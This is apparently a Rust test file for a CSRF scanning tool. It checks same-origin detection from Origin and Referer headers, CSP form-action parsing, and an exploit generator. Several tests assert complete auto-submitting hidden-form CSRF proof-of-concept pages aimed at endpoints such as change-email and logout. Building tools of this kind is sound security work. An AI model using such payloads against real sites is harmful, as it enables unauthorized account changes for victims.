use csrf_scan::csp::{inspect, CspPosture};
use csrf_scan::csrf::VulnerableRequest;
use csrf_scan::exploit::generate;
use csrf_scan::origin::{extract_host, same_origin};
use csrf_scan::shared_kernel::{Body, Request, Response};

fn post_with_headers(headers: Vec<(String, String)>) -> Request {
    Request {
        method: String::from("POST"),
        url: String::from("https://example.com/change-email"),
        headers,
        body: Body::Text(String::from("email=x@y.com")),
    }
}

#[test]
fn extract_host_reads_between_scheme_and_path() {
    assert_eq!(extract_host("https://example.com/change-email"), String::from("example.com"));
    assert_eq!(extract_host("https://example.com:8443/a?b=c"), String::from("example.com"));
    assert_eq!(extract_host("https://example.com"), String::from("example.com"));
    assert_eq!(extract_host("no-scheme-here"), String::new());
}

#[test]
fn matching_origin_header_is_same_origin() {
    let request = post_with_headers(vec![(
        String::from("Origin"),
        String::from("https://example.com"),
    )]);
    assert!(same_origin(&request));
}

#[test]
fn mismatched_origin_header_is_cross_site() {
    let request = post_with_headers(vec![(
        String::from("Origin"),
        String::from("https://evil.example.net"),
    )]);
    assert!(!same_origin(&request));
}

#[test]
fn referer_is_the_fallback() {
    let request = post_with_headers(vec![(
        String::from("Referer"),
        String::from("https://example.com/my-account?id=wiener"),
    )]);
    assert!(same_origin(&request));
}

#[test]
fn missing_origin_and_referer_is_cross_site() {
    let request = post_with_headers(vec![]);
    assert!(!same_origin(&request));
}

#[test]
fn origin_header_is_preferred_over_referer() {
    let request = post_with_headers(vec![
        (String::from("Referer"), String::from("https://example.com/page")),
        (String::from("Origin"), String::from("https://evil.example.net")),
    ]);
    assert!(!same_origin(&request));
}

fn response_with_headers(headers: Vec<(String, String)>) -> Response {
    Response { status: 200, headers, body: Body::Text(String::new()) }
}

#[test]
fn missing_csp_header_is_permissive() {
    let response = response_with_headers(vec![]);
    assert_eq!(inspect(&response), CspPosture::Permissive);
}

#[test]
fn form_action_directive_restricts() {
    let response = response_with_headers(vec![(
        String::from("Content-Security-Policy"),
        String::from("default-src 'self'; form-action 'self'"),
    )]);
    assert_eq!(inspect(&response), CspPosture::RestrictsFormAction);
}

#[test]
fn policy_without_form_action_is_permissive() {
    let response = response_with_headers(vec![(
        String::from("Content-Security-Policy"),
        String::from("default-src 'self'; script-src 'none'"),
    )]);
    assert_eq!(inspect(&response), CspPosture::Permissive);
}

#[test]
fn exploit_reproduces_method_url_and_fields() {
    let finding = VulnerableRequest {
        url: String::from("https://example.com/change-email"),
        method: String::from("POST"),
        body: String::from("email=x@y.com&csrf=1"),
    };

    let exploit = generate(&finding);

    assert_eq!(
        exploit.payload().as_str(),
        "<html><body onload=\"document.forms[0].submit()\">\
         <form method=\"POST\" action=\"https://example.com/change-email\">\
         <input type=\"hidden\" name=\"email\" value=\"x@y.com\"/>\
         <input type=\"hidden\" name=\"csrf\" value=\"1\"/>\
         </form></body></html>"
    );
}

#[test]
fn exploit_reproduces_a_raw_body_as_one_field() {
    let finding = VulnerableRequest {
        url: String::from("https://example.com/api"),
        method: String::from("POST"),
        body: String::from("raw text body"),
    };

    let exploit = generate(&finding);

    assert_eq!(
        exploit.payload().as_str(),
        "<html><body onload=\"document.forms[0].submit()\">\
         <form method=\"POST\" action=\"https://example.com/api\">\
         <input type=\"hidden\" name=\"raw text body\" value=\"\"/>\
         </form></body></html>"
    );
}

#[test]
fn exploit_generation_is_deterministic() {
    let finding = VulnerableRequest {
        url: String::from("https://example.com/change-email"),
        method: String::from("POST"),
        body: String::from("email=x@y.com"),
    };

    assert_eq!(generate(&finding), generate(&finding));
}

#[test]
fn exploit_for_an_empty_body_has_no_inputs() {
    let finding = VulnerableRequest {
        url: String::from("https://example.com/logout"),
        method: String::from("POST"),
        body: String::new(),
    };

    assert_eq!(
        generate(&finding).payload().as_str(),
        "<html><body onload=\"document.forms[0].submit()\">\
         <form method=\"POST\" action=\"https://example.com/logout\">\
         </form></body></html>"
    );
}

#[test]
fn exploit_drops_empty_body_pieces() {
    let finding = VulnerableRequest {
        url: String::from("https://example.com/a"),
        method: String::from("POST"),
        body: String::from("a=1&&b=2"),
    };

    assert_eq!(
        generate(&finding).payload().as_str(),
        "<html><body onload=\"document.forms[0].submit()\">\
         <form method=\"POST\" action=\"https://example.com/a\">\
         <input type=\"hidden\" name=\"a\" value=\"1\"/>\
         <input type=\"hidden\" name=\"b\" value=\"2\"/>\
         </form></body></html>"
    );
}
